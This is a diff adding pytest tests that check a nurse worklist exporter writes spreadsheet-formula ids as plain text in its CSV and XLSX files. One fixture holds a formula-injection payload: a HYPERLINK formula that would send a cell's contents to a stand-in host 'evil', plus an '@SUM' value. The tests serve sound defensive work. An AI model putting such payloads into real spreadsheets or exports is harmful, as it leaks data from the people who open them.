@@ -263,3 +263,35 @@ def test_xlsx_for_nurses_needs_out_and_has_one_row_per_item(
     rows = list(load_workbook(out)["工作清单"].iter_rows(values_only=True))
     assert rows[1][7] == "规则 / rule"
     assert [row[7] for row in rows[2:]] == ["SAFE-05", "SAFE-14", "ADH-02", "ADH-02"]
+
+
+EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+@pytest.fixture(scope="module")
+def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The small registry with P0001 of his-a imported as a formula, its hospital as ``@``."""
+    data = small_registry_data()
+    data[0]["id"] = EVIL_ID
+    data[0]["hospital"]["id"] = "@SUM(1+1)"
+    url = f"sqlite:///{tmp_path_factory.mktemp('wl-hostile') / 'store.sqlite3'}"
+    stored(url, [parse_record(d, today=TODAY) for d in data]).close()
+    return url
+
+
+def test_csv_and_xlsx_never_carry_a_live_formula(hostile_url: str, tmp_path: Path) -> None:
+    """Issue 13 item 3: an id starting with ``=`` or ``@`` is text in both files."""
+    from openpyxl import load_workbook
+
+    common = ["worklist", "--as-of", DAY, "--rule", "ADH-03", "--out"]
+    csv_out, xlsx_out = tmp_path / "w.csv", tmp_path / "w.xlsx"
+    assert _run(hostile_url, *common, str(csv_out), "--format", "csv").exit_code == 0
+    assert _run(hostile_url, *common, str(xlsx_out), "--format", "xlsx").exit_code == 0
+
+    table = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
+    assert ["'" + EVIL_ID, "his-a", "'@SUM(1+1)"] in [row[3:6] for row in table[1:]]
+
+    sheet = load_workbook(xlsx_out)["工作清单"]
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    rows = list(sheet.iter_rows(min_row=3, values_only=True))
+    assert (EVIL_ID, "his-a", "@SUM(1+1)") in [row[3:6] for row in rows]
